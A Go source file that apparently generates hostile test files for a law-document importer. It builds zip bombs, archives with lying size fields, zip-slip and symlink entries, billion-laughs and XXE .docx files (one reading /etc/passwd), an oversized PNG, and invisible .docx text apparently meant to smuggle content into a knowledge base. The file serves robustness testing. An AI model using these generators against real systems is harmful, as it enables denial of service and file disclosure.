package main

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
)

// A law text that an importer would take, for archives that hide something
// beside it.
const decoy = "某某条例\n\n（2024年1月1日某某委员会通过）\n\n第一条　为了试验，制定本条例。\n\n第二条　本条例自公布之日起施行。\n"

// buildBomb writes the file of an attack into dir and gives its name.
func buildBomb(x attack, dir string) (string, error) {
	p := x.Payload
	switch p.Kind {
	case "kb_doc":
		return writeText(filepath.Join(dir, "doc.md"), "# "+p.Title+"\n\n"+bodyText(p.Body)+"\n")
	case "markdown":
		return writeText(filepath.Join(dir, "doc.md"), bodyText(p.Body)+"\n")
	case "docx_hidden":
		hidden := `<w:p><w:r><w:rPr><w:vanish/><w:color w:val="FFFFFF"/></w:rPr><w:t>` + escapeXML(p.Text) + `</w:t></w:r></w:p>`
		return writeDocx(filepath.Join(dir, "doc.docx"), "", hidden, nil)
	case "docx_entities":
		return writeDocx(filepath.Join(dir, "doc.docx"), laughs(p.Levels), `<w:p><w:r><w:t>&amp;x`+fmt.Sprint(p.Levels)+`;</w:t></w:r></w:p>`, nil)
	case "docx_xxe":
		return writeDocx(filepath.Join(dir, "doc.docx"), `<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>`, `<w:p><w:r><w:t>&x;</w:t></w:r></w:p>`, nil)
	case "docx_image":
		return writeDocx(filepath.Join(dir, "doc.docx"), "", `<w:p><w:r><w:t>图</w:t></w:r></w:p>`, map[string][]byte{"word/media/image1.png": hugePNG(p.W, p.H)})
	}
	if strings.HasPrefix(p.Kind, "zip") || p.Kind == "xlsx_sst" {
		return writeArchive(p, dir)
	}
	text, ok := x.words()
	if !ok {
		return "", fmt.Errorf("no file for %s", p.Kind)
	}
	return writeText(filepath.Join(dir, "doc.md"), text)
}

func writeText(name, text string) (string, error) {
	return name, os.WriteFile(name, []byte(text), 0o600)
}

func escapeXML(s string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace(s)
}

// laughs is a document type whose last entity is 10^levels letters long.
func laughs(levels int) string {
	var b strings.Builder
	b.WriteString(`<!DOCTYPE d [<!ENTITY x0 "ha">`)
	for i := 1; i <= levels; i++ {
		fmt.Fprintf(&b, `<!ENTITY x%d "%s">`, i, strings.Repeat(fmt.Sprintf("&x%d;", i-1), 10))
	}
	return b.String() + "]>"
}

// writeDocx writes a document; doctype stands before its root element.
func writeDocx(name, doctype, body string, more map[string][]byte) (string, error) {
	var title strings.Builder
	for line := range strings.Lines(decoy) {
		if line = strings.TrimSpace(line); line != "" {
			title.WriteString("<w:p><w:r><w:t>" + escapeXML(line) + "</w:t></w:r></w:p>")
		}
	}
	if doctype == "" {
		body = title.String() + body
	} else {
		body = strings.ReplaceAll(body, "&amp;x", "&x")
	}
	more = cloneFiles(more)
	more["word/document.xml"] = []byte(`<?xml version="1.0" encoding="UTF-8"?>` + doctype +
		`<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>` + body + `</w:body></w:document>`)
	more["[Content_Types].xml"] = []byte(`<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`)
	return name, writeZip(name, func(z *zip.Writer) error {
		for f, data := range more {
			w, err := z.Create(f)
			if err != nil {
				return err
			}
			if _, err := w.Write(data); err != nil {
				return err
			}
		}
		return nil
	})
}

func cloneFiles(m map[string][]byte) map[string][]byte {
	out := map[string][]byte{}
	for k, v := range m {
		out[k] = v
	}
	return out
}

// hugePNG is the header of a picture of great size.
func hugePNG(w, h int) []byte {
	b := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR")
	b = binary.BigEndian.AppendUint32(b, uint32(w))
	b = binary.BigEndian.AppendUint32(b, uint32(h))
	b = append(b, 8, 6, 0, 0, 0)
	return binary.BigEndian.AppendUint32(b, crc32.ChecksumIEEE(b[12:]))
}

func writeZip(name string, fill func(z *zip.Writer) error) error {
	f, err := os.OpenFile(name, os.O_CREATE|os.O_EXCL|os.O_WRONLY, 0o600)
	if err != nil {
		return err
	}
	defer f.Close()
	z := zip.NewWriter(f)
	if err := fill(z); err != nil {
		return err
	}
	return z.Close()
}

// writeArchive writes an archive that is not what it seems.
func writeArchive(p payload, dir string) (string, error) {
	name := filepath.Join(dir, "laws.zip")
	switch p.Kind {
	case "zip_bomb":
		return name, writeZip(name, func(z *zip.Writer) error { return addZeros(z, "law.md", p.Unpacked, p.Unpacked) })
	case "zip_lie_size":
		return name, writeZip(name, func(z *zip.Writer) error { return addZeros(z, "law.md", 4<<30, 100) })
	case "xlsx_sst":
		name = filepath.Join(dir, "book.xlsx")
		return name, writeZip(name, func(z *zip.Writer) error { return addZeros(z, "xl/sharedStrings.xml", p.Unpacked, p.Unpacked) })
	case "zip_many":
		return name, writeZip(name, func(z *zip.Writer) error {
			for i := range min(max(p.Files, 1), 500_000) {
				if _, err := z.Create(fmt.Sprintf("%d.md", i)); err != nil {
					return err
				}
			}
			return nil
		})
	case "zip_nest":
		return name, writeNested(name, min(max(p.Depth, 1), 200))
	case "zip_overlap":
		return name, writeOverlap(name)
	case "zip_slip":
		return name, writeZip(name, func(z *zip.Writer) error { return addFile(z, p.Name, 0o644, decoy) })
	case "zip_symlink":
		return name, writeZip(name, func(z *zip.Writer) error { return addFile(z, "law.md", fs.ModeSymlink|0o777, p.Target) })
	}
	return "", fmt.Errorf("no archive for %s", p.Kind)
}

func addFile(z *zip.Writer, name string, mode fs.FileMode, text string) error {
	h := &zip.FileHeader{Name: name, Method: zip.Deflate}
	h.SetMode(mode)
	w, err := z.CreateHeader(h)
	if err != nil {
		return err
	}
	_, err = io.WriteString(w, text)
	return err
}

// zeroBlock is how many zeros one repeated piece of a bomb unpacks to.
const zeroBlock = 16 << 20

// addZeros adds an entry that unpacks to about n zeros and says that it unpacks
// to claimed. The compressed piece of one block is written again and again, so
// that a great bomb takes no time to make.
func addZeros(z *zip.Writer, name string, n, claimed int64) error {
	var b bytes.Buffer
	f, err := flate.NewWriter(&b, flate.BestCompression)
	if err != nil {
		return err
	}
	zeros := make([]byte, zeroBlock)
	piece := func() ([]byte, error) {
		b.Reset()
		if _, err := f.Write(zeros); err != nil {
			return nil, err
		}
		err := f.Flush()
		return bytes.Clone(b.Bytes()), err
	}
	first, err := piece()
	if err != nil {
		return err
	}
	again, err := piece()
	if err != nil {
		return err
	}
	b.Reset()
	if err := f.Close(); err != nil {
		return err
	}
	blocks := max(n/zeroBlock, 2)
	size := uint64(len(first)) + uint64(blocks-1)*uint64(len(again)) + uint64(b.Len())
	w, err := z.CreateRaw(&zip.FileHeader{Name: name, Method: zip.Deflate, CompressedSize64: size, UncompressedSize64: uint64(claimed)})
	if err != nil {
		return err
	}
	if _, err := w.Write(first); err != nil {
		return err
	}
	for range blocks - 1 {
		if _, err := w.Write(again); err != nil {
			return err
		}
	}
	_, err = w.Write(b.Bytes())
	return err
}

// writeNested writes an archive in an archive, depth times.
func writeNested(name string, depth int) error {
	inner := []byte(decoy)
	file := "law.md"
	for range depth {
		var b bytes.Buffer
		z := zip.NewWriter(&b)
		if err := addFile(z, file, 0o644, string(inner)); err != nil {
			return err
		}
		if err := z.Close(); err != nil {
			return err
		}
		inner, file = b.Bytes(), "inner.zip"
	}
	return os.WriteFile(name, inner, 0o600)
}

// overlaps is how many entries of an overlapping archive share one body.
const overlaps = 5000

// writeOverlap writes an archive whose entries all share one body of 1 MiB.
func writeOverlap(name string) error {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	if err := addFile(z, "law.md", 0o644, strings.Repeat("0", 1<<20)); err != nil {
		return err
	}
	if err := z.Close(); err != nil {
		return err
	}
	data := b.Bytes()
	at := bytes.Index(data, []byte("PK\x01\x02"))
	end := bytes.Index(data, []byte("PK\x05\x06"))
	record := data[at:end]
	out := append([]byte{}, data[:at]...)
	out = append(out, bytes.Repeat(record, overlaps)...)
	tail := bytes.Clone(data[end:])
	binary.LittleEndian.PutUint16(tail[8:], overlaps)
	binary.LittleEndian.PutUint16(tail[10:], overlaps)
	binary.LittleEndian.PutUint32(tail[12:], uint32(len(record)*overlaps))
	binary.LittleEndian.PutUint32(tail[16:], uint32(at))
	return os.WriteFile(name, append(out, tail...), 0o600)
}
